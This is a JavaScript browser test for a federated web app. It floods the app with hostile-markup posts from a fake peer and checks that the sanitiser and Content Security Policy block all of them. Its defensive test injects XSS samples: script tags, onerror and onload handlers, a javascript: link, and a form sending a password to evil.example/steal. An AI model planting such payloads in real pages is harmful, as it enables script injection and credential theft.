// What other servers write, in a real browser: nothing of it runs; and if it came through, the page's policy would stop it (cases X1, X2, X6).
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { binary, launch } from './browser.mjs';
import { founds, marie as mariesCoop, start } from './instance.mjs';
import { everybody, startPeer } from './peer.mjs';

const corpus = JSON.parse(await readFile(new URL('../it/fixtures/hostile-markup.json', import.meta.url), 'utf8'));
let browser;
let velo;
let evil;

before(async () => {
  browser = await launch();
  [velo, evil] = await Promise.all([start(binary), startPeer()]);
});

after(async () => {
  await browser?.close();
  await velo?.stop();
  await evil?.stop();
});

// Marie, who founded the cooperative and runs the instance. Whatever runs, asks elsewhere, or is stopped by the policy is noted.
async function settle(trouble) {
  const context = await browser.newContext({ baseURL: velo.address, locale: 'en-GB' });
  await context.route((url) => url.host !== new URL(velo.address).host, (route) => {
    trouble.push(`asks elsewhere: ${route.request().resourceType()} ${route.request().url()}`);
    return route.abort();
  });
  await context.addInitScript(() => {
    globalThis.stopped = [];
    document.addEventListener('securitypolicyviolation', (violation) => globalThis.stopped.push(violation.effectiveDirective));
  });
  const page = await context.newPage();
  page.setDefaultTimeout(20_000);
  page.on('dialog', (dialog) => { trouble.push(`ran: ${page.url()} ${dialog.message()}`); dialog.dismiss(); });
  await founds(page, velo, mariesCoop);
  return { context, page };
}

async function until(what, holds) {
  const deadline = Date.now() + 60_000;
  while (!(await holds())) {
    assert.ok(Date.now() < deadline, what);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

// Each text of the corpus as a post and a message, and four of them at a time in one listing.
async function flood(page) {
  const mallory = evil.actor('mallory', { name: corpus[14], summary: corpus[31], url: corpus[19], icon: { type: 'Image', url: corpus[26] } });
  await page.goto('/coops/velo/following');
  await page.fill('[name=target]', mallory.handle);
  await page.click('form[action$="/following"] button');
  await until('the follow arrives', () => evil.inbox.some((activity) => activity.type === 'Follow'));
  assert.equal(await evil.deliver(mallory, velo.address, 'Accept', evil.inbox.find((activity) => activity.type === 'Follow')), 202);
  const cooperative = `${velo.address}/coops/velo`;
  const at = (index) => corpus[index % corpus.length];
  for (const [index, text] of corpus.entries()) {
    const common = { attributedTo: mallory.url, published: new Date(Date.now() - 1_000 * (corpus.length - index)).toISOString(), content: text, summary: text, name: text, url: text };
    const attachment = [{ type: 'Image', mediaType: 'image/png', url: 'https://evil.example/a.png', name: text }, { type: 'Link', href: text }];
    assert.equal(await evil.deliver(mallory, velo.address, 'Create', { ...common, id: `${mallory.url}/notes/${index}`, type: 'Note', to: everybody, attachment }), 202);
    const tag = [{ type: 'Mention', href: cooperative, name: text }];
    assert.equal(await evil.deliver(mallory, velo.address, 'Create', { ...common, id: `${mallory.url}/letters/${index}`, type: 'Note', to: [cooperative], tag }), 202);
    if (index % 4 > 0) continue;
    const id = `${mallory.url}/listings/${index}`;
    const listing = {
      ...common, id, type: 'Note', to: everybody, attachment, purpose: 'offer', content: at(index), conditions: at(index + 1), closingNote: at(index + 2),
      tag: [{ type: 'Hashtag', name: at(index + 3) }], location: { type: 'Place', name: at(index + 1), address: at(index + 2), openingHours: at(index + 3), accessibility: at(index) },
      publishes: {
        id: `${id}#primary`, type: 'Intent', action: 'transferCustody', name: `${index} ${at(index + 2)}`, resourceQuantity: { hasUnit: 'one', hasNumericalValue: '1' }, finished: false,
        nameMap: { en: `${index} ${at(index + 2)}`, fr: at(index + 3) }, contentMap: { en: at(index), fr: at(index + 3) },
      },
    };
    assert.equal(await evil.deliver(mallory, velo.address, 'Create', listing), 202);
  }
  // What one actor says takes effect in order.
  const last = { id: `${mallory.url}/notes/last`, type: 'Note', attributedTo: mallory.url, published: new Date().toISOString(), to: everybody, content: 'The last word' };
  assert.equal(await evil.deliver(mallory, velo.address, 'Create', last), 202);
  await until('everything took effect', async () => (await (await page.request.get('/reading')).text()).includes('The last word'));
}

// Every page that links lead to, each looked at with its details open and the pointer over everything.
async function crawl(page, trouble) {
  const waiting = ['/reading', '/', '/home', '/peers', '/peers/held', '/reports', '/deliveries/incoming', '/coops/velo/inquiries', '/coops/velo/following', '/?page=1', '/?page=2'];
  const known = new Set(waiting);
  let looked = 0;
  while (waiting.length > 0) {
    const path = waiting.shift();
    const answer = await page.goto(path);
    assert.ok(answer.status() < 500, `${answer.status()} ${path}`);
    looked += 1;
    const stopped = await page.evaluate(() => {
      for (const details of document.querySelectorAll('details')) details.open = true;
      for (const element of document.querySelectorAll('main *')) {
        element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
        if (element instanceof HTMLElement) element.focus({ preventScroll: true });
      }
      return globalThis.stopped;
    });
    if (stopped.length > 0) trouble.push(`${path}: the policy had to stop ${stopped}`);
    const foreign = await page.evaluate(() => [...document.querySelectorAll('iframe, object, embed, frame, video, audio, base, style, form:not([action^="/"]), .prose svg, svg a, svg script, math, template, [style], [onclick], [onerror], [onload]')].map((element) => element.outerHTML.slice(0, 200)));
    if (foreign.length > 0) trouble.push(`${path}: ${foreign.join(' ')}`);
    const scripts = await page.locator('script').evaluateAll((all) => all.map((script) => script.src));
    if (scripts.some((src) => !src.startsWith(`${velo.address}/static/`))) trouble.push(`${path}: ${scripts}`);
    const links = await page.locator('a').evaluateAll((all) => all.map((link) => link.href));
    for (const link of links.map((href) => (URL.canParse(href) ? new URL(href) : undefined))) {
      if (!link || /^(javascript|data|vbscript):/.test(link.protocol)) { trouble.push(`${path}: a link to ${link}`); continue; }
      const wanted = link.origin === velo.address && /^\/(listings\/[^/]+|inquiries\/[^/]+|reading)$/.test(link.pathname);
      const next = link.pathname + link.search;
      if (wanted && !known.has(next)) { known.add(next); waiting.push(next); }
    }
  }
  return { looked, listings: [...known].filter((path) => path.startsWith('/listings/')) };
}

test('what other servers write', async (t) => {
  const trouble = [];
  const { context, page } = await settle(trouble);
  let listing;

  await t.test('x1 runs, loads, embeds and covers nothing on any page', async (t) => {
    await flood(page);
    const { looked, listings } = await crawl(page, trouble);
    t.diagnostic(`${corpus.length} texts, ${looked} pages, ${listings.length} listings`);
    assert.ok(listings.length > corpus.length / 6, `only ${listings.length} listings are shown`);
    assert.deepEqual(trouble, []);
    [listing] = listings;
  });

  await t.test('x2 would be stopped by the policy if the sanitiser let it through, and could not read the session', async () => {
    const through = `<script>alert(1); globalThis.ran = true</script><img src="/static/none.png" onerror="alert(2)"><svg onload="alert(3)"></svg>
      <style>main { display: none }</style><iframe src="https://evil.example/embed"></iframe><object data="https://evil.example/embed"></object>
      <script src="https://evil.example/x.js"></script><base href="https://evil.example/"><a id="inline" href="javascript:alert(4)">x</a>
      <form action="https://evil.example/steal" method="get"><input name="password" value="secret"><button id="steal">Sign in</button></form>`;
    const answers = (url) => url.pathname === listing;
    await context.route(answers, async (route) => {
      const response = await route.fetch();
      const headers = Object.fromEntries(Object.entries(response.headers()).filter(([name]) => !['content-encoding', 'content-length'].includes(name)));
      await route.fulfill({ status: response.status(), headers, body: (await response.text()).replace('</main>', `${through}</main>`) });
    });
    await page.goto(listing);
    await page.waitForFunction(() => globalThis.stopped.includes('script-src-attr'));
    await page.click('#inline');
    await page.click('#steal', { noWaitAfter: true });
    await page.waitForFunction(() => globalThis.stopped.includes('form-action'));
    const stopped = new Set(await page.evaluate(() => globalThis.stopped));
    for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'frame-src', 'object-src', 'base-uri', 'form-action']) {
      assert.ok(stopped.has(directive), `${directive} is not among ${[...stopped]}`);
    }
    assert.equal(await page.evaluate(() => globalThis.ran), undefined);
    assert.equal(new URL(page.url()).pathname, listing, 'x6: the form led nowhere');
    assert.equal(await page.evaluate(() => document.cookie), '', 'no script sees a cookie');
    const session = (await context.cookies()).find((cookie) => cookie.name.includes('allmende'));
    assert.ok(session?.httpOnly && session.sameSite !== 'None', JSON.stringify(session));
    await context.unroute(answers);
    assert.deepEqual(trouble, []);
  });
});
